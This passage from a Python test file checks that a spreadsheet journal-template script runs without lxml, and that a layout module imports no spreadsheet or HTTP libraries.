        "assert not [m for m in sys.modules if m.split('.')[0] == 'lxml']\n"
    )
    env = {**os.environ, "OPENPYXL_LXML": "False"}
    done = subprocess.run([sys.executable, str(script), str(tmp_path / "j.xlsx")],
                          capture_output=True, text=True, env=env, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "laid out the journal template" in done.stdout


def test_the_layout_spec_needs_no_spreadsheet_library() -> None:
    import subprocess
    import sys

    code = ("import sys, leverage.layout\n"
            "print(sorted({m.split('.')[0] for m in sys.modules} & "
            "{'openpyxl', 'lxml', 'gspread', 'templates', 'sheets_bridge', 'requests'}))")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == "[]"
